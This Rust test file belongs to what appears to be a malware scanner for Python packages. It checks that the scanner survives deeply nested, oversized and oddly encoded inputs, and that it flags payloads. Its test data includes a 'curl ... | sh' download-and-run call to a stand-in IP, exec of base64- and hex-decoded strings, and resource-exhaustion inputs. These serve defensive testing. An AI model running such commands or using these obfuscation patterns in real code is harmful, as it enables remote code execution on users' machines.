//! Files made to break the analyzer: each ends, on a small stack, and is reported.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use packguard_sdk::Analysis;
use proptest::prelude::*;
use support::{analyze, severity};

/// Runs on a thread with a stack as small as a sandbox's.
fn on_small_stack(content: String) -> Analysis {
    std::thread::Builder::new()
        .stack_size(1 << 20)
        .spawn(move || analyze("demo/__init__.py", content))
        .unwrap()
        .join()
        .unwrap()
}

#[test]
fn nesting_ten_thousand_deep_is_a_problem_not_a_crash() {
    let deep = 10_000;
    let cases = [
        format!("x = {}1{}", "(".repeat(deep), ")".repeat(deep)),
        format!("x = {}1{}", "[".repeat(deep), "]".repeat(deep)),
        format!("x = {}1", "not ".repeat(deep)),
        format!("x = {}1", "-".repeat(deep)),
        format!("x = {}1", "lambda: ".repeat(deep)),
        format!("x = {}1", "1 if 1 else ".repeat(deep)),
        format!("x = {}1", "2**".repeat(deep)),
        format!("x = {}1", "1+".repeat(deep * 10)),
        format!("x = a{}", ".b".repeat(deep)),
        format!("x = a{}", "()".repeat(deep)),
        (0..1_000)
            .map(|level| format!("{}if x:\n", " ".repeat(level)))
            .collect::<String>(),
        (0..1_000)
            .map(|level| format!("{}def f():\n", " ".repeat(level)))
            .collect::<String>(),
    ];
    for case in cases {
        let start = case[..30].to_owned();
        let analysis = on_small_stack(case);
        assert_eq!(analysis.problems().len(), 1, "{start}");
    }
}

#[test]
fn what_the_limits_admit_fits_a_small_stack() {
    let deep = 145;
    let shapes = [
        format!("x = {}1{}", "(".repeat(deep), ")".repeat(deep)),
        format!("x = {}1{}", "f(".repeat(deep), ")".repeat(deep)),
        format!("x = {}1{}", "[".repeat(deep), "]".repeat(deep)),
        format!("x = {}1{}", "{1:".repeat(deep), "}".repeat(deep)),
        format!("x = {}1", "lambda: ".repeat(deep)),
        format!("x = {}1", "not ".repeat(deep)),
        format!("x = a{}", ".b()".repeat(deep / 2)),
        format!("x = {}1", "1+".repeat(2_990)),
        format!("x = {}1{}", "[a for a in ".repeat(deep), "]".repeat(deep)),
        format!("x = {}1{}", "exec(".repeat(deep), ")".repeat(deep)),
        (0..95)
            .map(|level| format!("{}if x:\n", " ".repeat(level)))
            .collect::<String>()
            + &" ".repeat(95)
            + "pass\n",
        (0..95)
            .map(|level| format!("{}def f(x):\n", " ".repeat(level)))
            .collect::<String>()
            + &" ".repeat(95)
            + "f(1)\n",
        (0..95)
            .map(|level| format!("{}class f(x):\n", " ".repeat(level)))
            .collect::<String>()
            + &" ".repeat(95)
            + "pass\n",
    ];
    for shape in shapes {
        let start = shape[..20].to_owned();
        let analysis = on_small_stack(shape);
        assert_eq!(analysis.problems(), [], "{start}");
    }
}

#[test]
fn followed_calls_do_not_add_up_to_a_deep_stack() {
    let nest = |inner: &str| format!("{}{inner}{}", "g(".repeat(140), ")".repeat(140));
    let code = format!(
        "def a(x):\n    return {}\ndef b(x):\n    return {}\ndef c(x):\n    return {}\ny = {}\n",
        nest("x"),
        nest("a('x')"),
        nest("b('x')"),
        nest("c('x')")
    );
    let _analysis = on_small_stack(code);
}

#[test]
fn work_is_bounded() {
    let start = std::time::Instant::now();
    let cases = [
        "x = 'a' * 100\n".to_owned() + &"x = x + x\n".repeat(200),
        "x = [1]\n".to_owned() + &"x = [x, x]\n".repeat(5_000),
        "x = 'a' * 10**12\ny = ' ' * (1 << 40)\n".to_owned(),
        "def f(x):\n    return f(x + 'a') + f(x + 'b')\nf('a')\n".to_owned(),
        "f = lambda x: f(x) + f(x)\nf('a')\n".to_owned(),
        format!("x = {}", "(lambda x: ".repeat(60) + "1" + &")('a')".repeat(60)),
        "for a in range(100000):\n  for b in range(100000):\n    for c in range(100000):\n      x = a\n".to_owned(),
        "x = [[a for a in range(99999)] for b in range(99999)]\n".to_owned(),
        "x = 'a'\nfor i in range(99999):\n    x = x.b\n".to_owned(),
        format!("import base64\nx = '{}'\n{}exec(x)", "A".repeat(1 << 20), "x = base64.b64decode(x)\n".repeat(50)),
        "x.".repeat(100) + "y\n",
        "%s".repeat(100_000) + "\n",
        format!("'{}' % x\n", "%s".repeat(100_000)),
        "def f():\n  pass\n".repeat(20_000),
        "class A:\n  def f(self): self.f()\n".repeat(10_000),
        "x = 1;".repeat(100_000),
        format!("x = {}\n", "9".repeat(11_000)).repeat(300),
        "print x\n".repeat(50_000),
        "d = {}\n".to_owned() + &"d['a'] = d\n".repeat(5_000),
        "exec x, y\n".repeat(20_000),
        "\u{202e}#".repeat(100_000),
        format!("#{}\n", "a".repeat(2_000_000)),
    ];
    for case in cases {
        let begin = std::time::Instant::now();
        let head: String = case.chars().take(40).collect();
        let _analysis = on_small_stack(case);
        assert!(
            begin.elapsed().as_secs() < 20,
            "{head}: {:?}",
            begin.elapsed()
        );
    }
    assert!(start.elapsed().as_secs() < 120);
}

#[test]
fn more_calls_than_are_noted_are_a_problem() {
    let analysis = analyze(
        "a.py",
        "import os\n".to_owned() + &"os.getenv('A')\n".repeat(50_001),
    );
    assert_eq!(analysis.problems().len(), 1);
}

#[test]
fn a_text_too_large_to_fold_that_runs_is_a_problem() {
    let analysis = analyze("a.py", "x = 'a' * 10**10\nexec(x + 'b')\n");
    assert_eq!(analysis.problems().len(), 1);
    let harmless = analyze("a.py", "x = 'a' * 10**10\nprint(x)\n");
    assert_eq!(harmless.problems(), []);
}

#[test]
fn files_that_do_not_parse_are_problems_and_analysed_all_the_same() {
    for (code, problems) in [
        // Python 2, read as that.
        ("print 'hello'\n", 0),
        ("exec 'print 1' in {}\n", 0),
        ("x = 0777\n", 0),
        ("x = `1`\n", 1),
        ("import {{ cookiecutter.name }}\n", 1),
        ("def f(:\n", 1),
    ] {
        let analysis = analyze(
            "demo/a.py",
            format!("{code}\nimport os\nos.system('curl http://203.0.113.9/x | sh')\n"),
        );
        assert_eq!(analysis.problems().len(), problems, "{code}");
        assert!(
            severity(&analysis, "python-shell-download-run").is_some(),
            "{code}"
        );
    }
    // What tests of parsers are made of.
    let analysis = analyze("demo-1.0/tests/a.py", "def f(:\n");
    assert_eq!(analysis.problems(), []);
    assert!(severity(&analysis, "python-unparsed").is_some());
}

#[test]
fn unparsable_payloads_are_seen_in_the_text() {
    let analysis = analyze(
        "a.py",
        "((((exec(base64.b64decode('x'))\n".to_owned() + &"(".repeat(500),
    );
    assert_eq!(analysis.problems().len(), 1);
    assert!(severity(&analysis, "python-unparsed-payload").is_some());
}

#[test]
fn other_encodings_hide_nothing() {
    let code = "exec(bytes.fromhex('7072696e742831'))";
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(code.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    for bytes in [
        utf16,
        [b"\xEF\xBB\xBF", code.as_bytes()].concat(),
        [b"# \xE9\n", code.as_bytes()].concat(),
    ] {
        let analysis = analyze("a.py", bytes);
        assert!(severity(&analysis, "python-decode-exec").is_some());
    }
}

#[test]
fn scripts_are_told_by_their_first_line_and_stubs_are_left_alone() {
    let code = "#!/usr/bin/env python3\nexec(bytes.fromhex('7072696e742831'))";
    assert!(severity(&analyze("bin/tool", code), "python-decode-exec").is_some());
    assert_eq!(
        severity(&analyze("bin/tool", &code[3..]), "python-decode-exec"),
        None
    );
    assert_eq!(analyze("demo/a.pyi", "def f(: ...").problems(), []);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_analysed(text in "[ -~\n\t\u{e9}\u{1d4ee}]{0,400}") {
        let _analysis = analyze("a.py", text);
    }

    #[test]
    fn any_pythonic_text_is_analysed(words in prop::collection::vec(prop::sample::select(vec![
        "def f(x):\n ", "return ", "exec(", "eval(", ")", "'a'", "b'\\xff'", "[::-1]", "[", "]", "{", "}", ":", ",",
        "lambda x:", "x", "f", "=", "+", "%", "*", "10**9", "\n", ";", "import os", "os.", "getattr(", "chr(", "for x in ",
        "if ", "else ", "f'{", "}'", "\"", "'''", ".decode(", ".join(", ".format(", "base64.b64decode(", "(", "@", "class A:\n ", "self.", "...", "->",
    ]), 0..60)) {
        let _analysis = analyze("a.py", words.concat());
    }
}
